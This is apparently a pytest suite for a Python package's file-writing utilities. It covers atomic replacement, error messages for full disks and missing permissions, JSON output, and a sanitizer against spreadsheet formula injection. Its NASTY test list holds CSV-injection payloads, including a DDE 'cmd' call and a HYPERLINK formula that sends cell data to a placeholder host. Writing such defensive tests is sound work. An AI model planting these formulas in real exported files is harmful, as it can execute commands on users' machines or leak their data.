"""The rules of writing: all of a file or none, and a reason when it fails."""

from __future__ import annotations

import json
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lobule.data.manifest import Manifest, complete, read_manifest, write_manifest
from lobule.errors import OutputError
from lobule.files import (
    as_written,
    harmless,
    read_csv,
    read_lines,
    replacing,
    write_json,
    write_lines,
    write_table,
    write_text,
    writing,
)


def test_what_was_written_takes_the_place_of_the_earlier_file(tmp_path):
    path = tmp_path / "new" / "folder" / "a.txt"
    write_text(path, "first")
    write_text(path, "zweite Fassung: ä\n")
    assert path.read_bytes() == "zweite Fassung: ä\n".encode()
    assert [file.name for file in path.parent.iterdir()] == ["a.txt"]


def test_a_reader_sees_the_earlier_file_until_the_new_one_is_whole(tmp_path):
    path = tmp_path / "a.txt"
    path.write_text("earlier")
    with replacing(path) as temporary:
        temporary.write_text("half of")
        assert path.read_text() == "earlier"
        assert temporary.parent == path.parent
        temporary.write_text("the whole")
    assert path.read_text() == "the whole"


@pytest.mark.parametrize("interruption", [RuntimeError, KeyboardInterrupt])
def test_an_interrupted_write_leaves_the_earlier_file_and_nothing_else(tmp_path, interruption):
    def write_half(path):
        with replacing(path) as temporary:
            temporary.write_text("half")
            raise interruption

    path = tmp_path / "a.txt"
    path.write_text("earlier")
    with pytest.raises(interruption):
        write_half(path)
    assert path.read_text() == "earlier"
    assert list(tmp_path.iterdir()) == [path]


def test_nested_writes_of_one_file_use_different_temporary_files(tmp_path):
    path = tmp_path / "a.txt"
    with replacing(path) as first, replacing(path) as second:
        assert first != second
        first.write_text("outer")
        second.write_text("inner")
    assert path.read_text() == "outer"
    assert list(tmp_path.iterdir()) == [path]


def test_writers_at_the_same_time_leave_one_whole_file(tmp_path):
    path = tmp_path / "a.txt"
    texts = [letter * 200_000 for letter in "abcdefgh"]
    threads = [threading.Thread(target=write_text, args=(path, text)) for text in texts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert path.read_text() in texts
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("letter", ["a", "ä", "組", "🔬"])
def test_a_name_as_long_as_the_file_system_takes_can_be_written(tmp_path, letter):
    path = tmp_path / (letter * (255 // len(letter.encode())))
    write_text(path, "x")
    assert path.read_text() == "x"


def test_json_is_indented_utf8_and_ends_with_a_newline(tmp_path):
    write_json(tmp_path / "a.json", {"Name": "Müller", "n": [1, 2.5, None]})
    text = (tmp_path / "a.json").read_text(encoding="utf-8")
    assert text.startswith('{\n  "Name": "Müller",')
    assert text.endswith("}\n")
    assert json.loads(text) == {"Name": "Müller", "n": [1, 2.5, None]}


@pytest.mark.parametrize("value", [float("nan"), float("inf")])
def test_json_refuses_numbers_that_json_does_not_have(tmp_path, value):
    path = tmp_path / "a.json"
    path.write_text("earlier")
    with pytest.raises(ValueError, match="not JSON compliant"):
        write_json(path, {"auc": value})
    assert path.read_text() == "earlier"


def test_a_file_where_a_folder_is_needed_is_named(tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError) as caught:
        write_text(tmp_path / "file" / "a.txt", "x")
    assert str(caught.value) == (
        f"cannot write {tmp_path}/file/a.txt: file exists\n  choose another place"
    )


def test_the_name_in_a_message_is_one_line(tmp_path):
    with pytest.raises(OutputError) as caught, writing(tmp_path / "a\nb"):
        (tmp_path / "no" / "such").write_text("x")
    assert caught.value.what == f"cannot write {tmp_path}/a\\nb: no such file or directory"


def test_no_permission_is_said(tmp_path, as_ordinary_user):
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "a.txt").write_text("earlier")
    (tmp_path / "locked").chmod(0o555)
    code = (
        "import sys; from pathlib import Path; from lobule.files import write_text\n"
        "from lobule.errors import OutputError\n"
        "try: write_text(Path(sys.argv[1]), 'new')\n"
        "except OutputError as error: print(error)"
    )
    done = as_ordinary_user(code, tmp_path / "locked" / "a.txt")
    assert done.stdout == (
        f"cannot write {tmp_path}/locked/a.txt: permission denied\n"
        "  choose a place you may write to\n"
    ), done.stderr
    assert (tmp_path / "locked" / "a.txt").read_text() == "earlier"


def test_a_full_disk_leaves_the_earlier_file_and_is_said(small_disk):
    disk = small_disk(64)
    path = disk / "a.txt"
    write_text(path, "earlier")
    with pytest.raises(OutputError) as caught:
        write_text(path, "x" * 200_000)
    assert str(caught.value) == (
        f"cannot write {path}: no space left on the device\n"
        "  free some space, or write to another place"
    )
    assert path.read_text() == "earlier"
    assert list(disk.iterdir()) == [path]


@pytest.mark.parametrize("name", ["m.csv", "m.parquet"])
def test_a_full_disk_is_said_of_a_table_too(small_disk, name):
    disk = small_disk(64)
    noise = np.random.default_rng(0).bytes(200_000).hex()
    table = complete(pd.DataFrame({"path": [f"{i}.png" for i in range(200)], "own": noise}))
    with pytest.raises(OutputError, match=f"{name}: no space left on the device"):
        write_manifest(Manifest(disk, table), disk / name)
    assert list(disk.iterdir()) == []


def test_a_device_that_is_full_is_said(tmp_path):
    with pytest.raises(OutputError) as caught, writing(tmp_path / "a.txt"):
        Path("/dev/full").write_text("x" * 100_000)
    assert caught.value.what == f"cannot write {tmp_path}/a.txt: no space left on the device"


# ---- cells that a spreadsheet would execute

NASTY = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", '"=1', "'=1", "''=1",
    "\ufeff=1", "\u200b=1", "\u2003=1", "\x0b=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
    "|calc", "%0A=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1)', "' =1", "\tplain", "\rplain", "\nplain",
]  # fmt: skip

PLAIN = ["a", "a=1", "1-2", "x@y", "it's", "'quoted'", "'", "''", "", "ü", "a\tb", "#1", "(1)"]


@pytest.mark.parametrize("text", NASTY)
def test_what_a_spreadsheet_would_execute_begins_with_an_apostrophe(text):
    assert harmless(text) == f"'{text}"
    assert as_written(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay_as_they_are_both_ways(text):
    assert harmless(text) == text
    assert as_written(text) == text


def test_numbers_stay_numbers():
    assert [harmless(n) for n in (-1, -0.5, None)] == [-1, -0.5, None]


texts = st.one_of(
    st.text(st.sampled_from("'\"=+-@\t\r\n |%a,;\u00a0\ufeff\u200b\uff1d0"), max_size=6),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=8),
)


@given(texts)
@settings(max_examples=1000)
def test_the_text_that_was_written_is_given_back(text):
    assert as_written(harmless(text)) == text
    # and none of them is executed
    assert not harmless(text).lstrip(' "\u00a0\ufeff').startswith(tuple("=+-@\t\r\n"))


@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=5), texts)
@settings(max_examples=300, deadline=None)
def test_a_csv_gives_back_every_text_and_the_names_of_its_columns(tmp_path_factory, rows, name):
    name = f"x{name}" if name in ("", "n") else name
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    table = pd.DataFrame({"n": [-1.5] * len(rows), name: [a for a, _ in rows]}).astype(
        {name: "string"}
    )
    write_table(table, path)
    back = read_csv(path, {name: "string"} if name == harmless(name) else "string")
    assert list(back) == ["n", name]
    # an empty cell is one that is missing
    assert back[name].fillna("").tolist() == [a for a, _ in rows]
    assert back["n"].astype(float).tolist() == [-1.5] * len(rows)


def test_a_manifest_keeps_names_that_a_spreadsheet_would_execute(tmp_path):
    rows = {
        "path": ["=1.png", "'=2.png", "'b.png"],
        "patient": ["-1", "@x", "+1"],
        "=own": ["|", "a", "'"],
    }
    path = tmp_path / "m.csv"
    manifest = Manifest(tmp_path, complete(pd.DataFrame(rows)))
    write_manifest(manifest, path)
    shown = path.read_text(encoding="utf-8")
    assert "\n'=1.png,,'-1," in shown
    assert ",'=own\n" in shown
    back = read_manifest(path, with_images=False).table
    for column in rows:
        assert back[column].tolist() == manifest.table[column].tolist()


def test_json_lines_hold_one_object_a_row_whatever_is_in_a_name(tmp_path):
    table = pd.DataFrame(
        {"path": ["a\u2028b\n", "ü"], "p": [0.1, float("nan")], "in": [True, None]}
    )
    write_lines(table, tmp_path / "t.jsonl", schema="lobule.test/1")
    lines = (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [
        {"schema": "lobule.test/1", "path": "a\u2028b\n", "p": 0.1, "in": True},
        {"schema": "lobule.test/1", "path": "ü", "p": None, "in": None},
    ]
    assert read_lines(tmp_path / "t.jsonl")["path"].tolist() == ["a\u2028b\n", "ü"]


def test_json_lines_that_are_none_are_refused(tmp_path):
    (tmp_path / "t.jsonl").write_text('{"path": "a"}\n[1]\n')
    with pytest.raises(ValueError, match="a line is no JSON object"):
        read_lines(tmp_path / "t.jsonl")
